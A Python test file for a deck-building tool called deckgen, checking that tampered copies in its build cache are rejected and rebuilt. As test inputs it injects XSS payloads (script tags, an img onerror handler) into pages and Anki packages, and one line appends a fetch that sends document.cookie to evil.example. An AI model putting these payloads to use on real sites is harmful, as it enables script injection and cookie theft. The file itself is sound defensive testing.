"""A copy of an output kept in the project's cache is used only when it holds what deckgen writes.

A kept file is named after the hash of its bytes, which whoever edits the cache can compute. An attacker's try:
a kept site/index.html with a <script> appended (and the record of the last build pointed at it), a kept deck
package whose notes carry `<img src=x onerror=…>`, and a kept deck page with a script: each was copied into
build/ as it was. Now each copy is checked (a package's fields, templates and deck descriptions; a page's tags
and attributes; an asset's bytes) and a copy that fails is written anew, so the build gives what a build
without the cache gives. Fails on daf97b8.
"""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import sqlite3
import zipfile
from pathlib import Path

from buildutil import output_hashes
from conftest import REPO, copy_project, run_deckgen

SCRIPT = b"<script>alert('kept')</script>"
CACHE = Path(".deckgen-cache")


def _built(tmp_path: Path, name: str) -> Path:
    project = copy_project(REPO, tmp_path / name)
    result = run_deckgen("build", cwd=project)
    assert result.returncode == 0, result.stderr
    return project


def _replace_kept(folder: Path, name: str, data: bytes) -> str:
    """Put ``data`` in place of the kept file ``name``, renamed so its hash part matches, as an attacker can."""
    stem, _, rest = name.rpartition(".")[0].rpartition(".")
    new = f"{stem}.{hashlib.sha256(data).hexdigest()[:32]}.{name.rpartition('.')[2]}"
    (folder / name).unlink()
    (folder / new).write_bytes(data)
    return new


def _all_shipped(project: Path) -> bytes:
    out = []
    for path in sorted((project / "build").rglob("*")):
        if path.suffix == ".apkg":
            with zipfile.ZipFile(path) as archive:
                out.append(archive.read("collection.anki2"))
        elif path.is_file():
            out.append(path.read_bytes())
    return b"\n".join(out)


def test_a_tampered_kept_page_is_not_copied_back(tmp_path: Path) -> None:
    clean, project = _built(tmp_path, "clean"), _built(tmp_path, "proj")
    record_path = project / CACHE / "last-build.json"
    record = json.loads(record_path.read_text())
    store, name, _sha, _size, mtime = record["files"]["site/index.html"]
    folder = project / CACHE / store
    data = (folder / name).read_bytes().replace(b"</main>", SCRIPT + b"</main>")
    new = _replace_kept(folder, name, data)
    record["files"]["site/index.html"] = [store, new, hashlib.sha256(data).hexdigest(), len(data), mtime]
    record_path.write_text(json.dumps(record))
    shutil.rmtree(project / "build")
    result = run_deckgen("build", cwd=project)
    assert result.returncode == 0, result.stderr
    assert b"alert('kept')" not in (project / "build" / "site" / "index.html").read_bytes()
    assert output_hashes(project) == output_hashes(clean)


def test_a_tampered_kept_package_and_deck_page_are_written_anew(tmp_path: Path) -> None:
    clean, project = _built(tmp_path, "clean"), _built(tmp_path, "proj")
    packages = project / CACHE / "packages"
    for name in sorted(p.name for p in packages.iterdir()):
        with zipfile.ZipFile(packages / name) as archive:
            db_bytes = archive.read("collection.anki2")
            media = archive.read("media")
        db = sqlite3.connect(":memory:")
        db.deserialize(db_bytes)
        db.execute("UPDATE notes SET flds = '<img src=x onerror=alert(1)>' || flds")
        db.commit()
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("collection.anki2", db.serialize())
            archive.writestr("media", media)
        _replace_kept(packages, name, buffer.getvalue())
    pages = project / CACHE / "site-pages"
    for name in sorted(p.name for p in pages.iterdir()):
        _replace_kept(pages, name, (pages / name).read_bytes().replace(b"</main>", SCRIPT + b"</main>"))
    shutil.rmtree(project / "build")
    (project / CACHE / "last-build.json").unlink()  # past the copy of build/: the full build's writer and site
    result = run_deckgen("build", cwd=project)
    assert result.returncode == 0, result.stderr
    shipped = _all_shipped(project)
    assert b"onerror" not in shipped and b"alert('kept')" not in shipped
    assert output_hashes(project) == output_hashes(clean)


def test_a_package_with_other_templates_or_a_changed_site_script_is_refused(tmp_path: Path) -> None:
    from deckgen.anki.notetypes import note_types
    from deckgen.anki.package import safe_package
    from deckgen.builder.cache import safe_output
    from deckgen.site.pages import asset_bytes

    project = _built(tmp_path, "proj")
    data = (project / "build" / "foundations.apkg").read_bytes()
    assert safe_package(data, note_types())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        db_bytes, media = archive.read("collection.anki2"), archive.read("media")
    db = sqlite3.connect(":memory:")
    db.deserialize(db_bytes)
    models = json.loads(db.execute("SELECT models FROM col").fetchone()[0])
    for model in models.values():
        model["tmpls"][0]["qfmt"] += "<script>alert(1)</script>"
    db.execute("UPDATE col SET models = ?", (json.dumps(models),))
    db.commit()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("collection.anki2", db.serialize())
        archive.writestr("media", media)
    assert not safe_package(buffer.getvalue(), note_types())
    assert not safe_package(b"not a zip", note_types())
    script = asset_bytes("site.js")
    assert script is not None and safe_output("site/assets/site.js", script)
    assert not safe_output("site/assets/site.js", script + b"\nfetch('https://evil.example/'+document.cookie)")
    assert not safe_output("site/decks/dg-abc.png", b"<html><script>alert(1)</script>")
